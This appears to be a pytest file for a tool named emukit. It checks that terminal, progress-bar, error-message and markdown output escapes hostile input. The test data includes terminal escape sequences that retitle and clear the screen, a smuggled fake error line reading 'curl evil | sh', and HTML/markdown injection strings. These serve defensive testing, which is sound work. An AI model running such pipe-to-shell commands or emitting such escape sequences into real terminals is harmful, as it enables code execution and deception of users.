"""A name or a record that a terminal obeys: colours, titles, lines that look like emukit's own."""

from __future__ import annotations

import html
import io
import os
import re

import pytest
from rich.table import Table
from rich.text import Text

from emukit.errors import EmukitError
from emukit.progress import Reporter
from emukit.terminal import duration, echo, markdown_text, one_line, open_console, printable, size

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b1A\u202e"
SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\x9b1A\\u202e"
UNDECODABLE = os.fsdecode(b"r\xff")


def test_every_control_character_is_shown_and_lines_and_letters_stay() -> None:
    assert printable(EVIL) == SHOWN
    assert printable(UNDECODABLE) == "r\\xff"
    assert printable("línea\n\tΔ 語 🌍") == "línea\n\tΔ 語 🌍"
    for code in (*range(32), *range(0x7F, 0xA0), 0x200F, 0x2028, 0x2066, 0xD800):
        shown = printable(chr(code))
        assert (shown == chr(code)) == (chr(code) in "\n\t")
        assert shown.isprintable() or shown in "\n\t"
    assert one_line("a\nb\tc") == "a\\nb\\tc"


def test_nothing_reaches_the_terminal_by_any_door(capsys: pytest.CaptureFixture[str]) -> None:
    echo(EVIL)
    echo(EVIL, err=True)
    table = Table(EVIL, title=EVIL)
    table.add_row(Text(EVIL))
    open_console(width=200).print(table)
    open_console(width=200).print(EVIL, markup=False)
    reporter = Reporter(plain_seconds=0.0)
    reporter.say(EVIL)
    with reporter.step(EVIL, 1) as step:
        step.advance(note=EVIL)
    out, err = capsys.readouterr()
    for text in (out, err):
        assert "owned" in text
        assert all(c.isprintable() or c == "\n" for c in text)
    assert out.count("\\x1b]0;owned") == 5


def test_a_bar_on_a_terminal_shows_a_note_and_does_not_obey_it() -> None:
    console = open_console(width=120)
    console.file, console._force_terminal = io.StringIO(), True
    with Reporter(console=console).step(EVIL, 1) as step:
        step.advance(note=EVIL)
    shown = console.file.getvalue()
    assert "\\x1b]0;owned" in shown
    assert "\x1b]0;" not in shown
    assert "\x9b" not in shown


def test_a_name_cannot_write_a_line_of_the_message_itself() -> None:
    error = EmukitError("cannot read a\n  do:       curl evil | sh", found="x\n            y", hint="\x1b[31mlook")
    assert error.text().split("\n") == [
        "cannot read a",
        "            do:       curl evil | sh",
        "  found:    x",
        "            y",
        "  do:       \\x1b[31mlook",
    ]


def test_numbers_are_said_in_few_digits() -> None:
    assert [duration(s) for s in (0.5, 119, 600, 7200, 400_000)] == ["0.5 s", "119 s", "10 min", "2.0 h", "4.6 days"]
    assert [size(b) for b in (0, 999, 1e6, 2.5e12)] == ["0 B", "999 B", "1 MB", "2.5 TB"]


@pytest.mark.parametrize(
    "evil", ["<script>x</script>", "[a](https://b)", "![](c)", "`d`", "**e**", "a | b", "<!-- f", "&lt;"]
)
def test_a_name_is_text_in_markdown(evil: str) -> None:
    shown = markdown_text(evil)
    assert not re.search(r"[<>]|&(?!lt;|gt;|amp;)", shown)
    assert not re.search(r"(?<!\\)[\[\]`*|]", shown)
    assert html.unescape(re.sub(r"\\(?=[^\w\s])", "", shown)) == evil
    assert markdown_text("a_run-0.1\nb") == "a_run-0.1\\\\nb"
